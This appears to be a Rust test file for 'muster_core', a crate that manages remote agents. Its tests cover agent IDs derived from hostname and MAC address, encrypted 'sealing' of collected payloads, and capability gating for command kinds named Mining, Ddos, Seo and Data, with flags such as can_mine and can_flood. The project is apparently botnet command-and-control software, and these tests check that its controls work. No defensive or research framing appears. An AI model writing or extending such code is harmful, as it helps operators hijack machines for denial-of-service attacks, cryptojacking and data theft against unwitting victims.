#![allow(clippy::unwrap_used, clippy::expect_used)]

use muster_core::config::MusterConfig;
use muster_core::seal::{checksum_hex, Sealer};
use muster_core::*;

// ---------------------------------------------------------------------------
// 1. Error display strings carry their failure class
// ---------------------------------------------------------------------------

#[test]
fn error_display_carries_failure_class() {
    let err = MusterError::NotFound("agent abc123".to_string());
    assert_eq!(err.to_string(), "Not found: agent abc123");

    let err = MusterError::InvalidTransition("completed -> executing".to_string());
    assert_eq!(err.to_string(), "Invalid transition: completed -> executing");

    let err = MusterError::Capacity("64 workers running".to_string());
    assert!(err.to_string().starts_with("Capacity limit:"));
}

#[test]
fn io_and_json_errors_convert_via_from() {
    let io = std::io::Error::new(std::io::ErrorKind::NotFound, "gone");
    let err: MusterError = io.into();
    assert!(matches!(err, MusterError::Io(_)));

    let bad: Result<CommandKind, _> = serde_json::from_str("\"teleport\"");
    let err: MusterError = bad.unwrap_err().into();
    assert!(matches!(err, MusterError::Json(_)));
}

// ---------------------------------------------------------------------------
// 2. Agent identity derivation matches the client-side scheme
// ---------------------------------------------------------------------------

#[test]
fn derived_ids_are_stable_across_registrations() {
    let first = derive_agent_id("build-host-7", "02:42:ac:11:00:02");
    let again = derive_agent_id("build-host-7", "02:42:ac:11:00:02");
    assert_eq!(first, again);
    assert_eq!(first.len(), 16);
}

// ---------------------------------------------------------------------------
// 3. Capability gating across every command kind
// ---------------------------------------------------------------------------

#[test]
fn fully_capable_agent_permits_everything() {
    let caps = CapabilitySet {
        can_mine: true,
        can_flood: true,
        can_boost: true,
        can_collect: true,
    };
    for kind in [
        CommandKind::System,
        CommandKind::Network,
        CommandKind::Data,
        CommandKind::Special,
        CommandKind::Seo,
        CommandKind::Mining,
        CommandKind::Ddos,
    ] {
        assert!(caps.permits(kind), "kind {} should be permitted", kind.as_str());
    }
}

#[test]
fn bare_agent_only_permits_ungated_kinds() {
    let caps = CapabilitySet::default();
    assert!(caps.permits(CommandKind::System));
    assert!(caps.permits(CommandKind::Network));
    assert!(caps.permits(CommandKind::Special));
    assert!(!caps.permits(CommandKind::Data));
    assert!(!caps.permits(CommandKind::Seo));
    assert!(!caps.permits(CommandKind::Mining));
    assert!(!caps.permits(CommandKind::Ddos));
}

// ---------------------------------------------------------------------------
// 4. Config file -> sealer pipeline, as the daemon wires it at boot
// ---------------------------------------------------------------------------

#[test]
fn config_carries_a_usable_seal_key() {
    let key = Sealer::generate_key_base64();
    let config =
        MusterConfig::from_toml_str(&format!("seal_key = \"{key}\"")).unwrap();
    let sealer = Sealer::from_base64(config.seal_key.as_deref().unwrap()).unwrap();

    let payload = b"inventory-report.tar.gz contents";
    let checksum = checksum_hex(payload);
    let sealed = sealer.seal(payload).unwrap();

    let opened = sealer.open(&sealed).unwrap();
    assert_eq!(opened, payload);
    assert_eq!(checksum_hex(&opened), checksum);
}
